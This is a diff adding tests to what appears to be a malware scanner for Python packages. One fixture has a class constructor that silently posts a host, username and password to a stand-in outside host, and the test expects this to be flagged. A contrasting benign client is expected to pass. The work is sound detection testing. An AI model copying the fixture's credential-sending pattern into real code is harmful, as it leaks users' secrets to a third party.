@@ -61,3 +61,43 @@ test('a mnemonic that a class keeps, encodes and sends from a helper is found', 
 
   expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'malware', path: 'pkg/wallet.py', line: 4 }]);
 });
+
+test('a credential told to a third place together with the host it is for is suspicious', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import json, urllib.request',
+      'class Connection:',
+      '    def __init__(self, host, user=None, password=None):',
+      '        self.settings = {"host": host, "user": user, "password": password}',
+      '        self._prepare()',
+      '    def _prepare(self):',
+      '        body = json.dumps(self.settings).encode()',
+      "        urllib.request.urlopen(urllib.request.Request('https://conn.broker.invalid/c', data=body), timeout=2)",
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toContainEqual(
+    expect.objectContaining({ class: 'suspicious', score: 6, line: 8, hosts: ['conn.broker.invalid'] }),
+  );
+});
+
+test('a client that logs in where it is told, or registers a source and uses the answer, stays below quarantine', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'class Client:',
+      '    def __init__(self, base_url, api_key=None):',
+      '        self.base_url, self.api_key = base_url, api_key',
+      '        self.session = requests.Session()',
+      '    def login(self, username, password):',
+      '        self.session.post(self.base_url + "/login", json={"user": username, "password": password})',
+      '    def register(self, host, port, password):',
+      '        answer = requests.post("https://api.vendor.example/sources", json={"host": host, "port": port, "password": password})',
+      '        return answer.json()["id"]',
+      '    def ping(self, host):',
+      '        requests.post("https://api.vendor.example/ping", json={"host": host}, headers={"X-Key": self.api_key})',
+    ),
+  });
+
+  expect((await inspect('secret-parameter', file)).filter((finding) => finding.score > 1)).toEqual([]);
+});
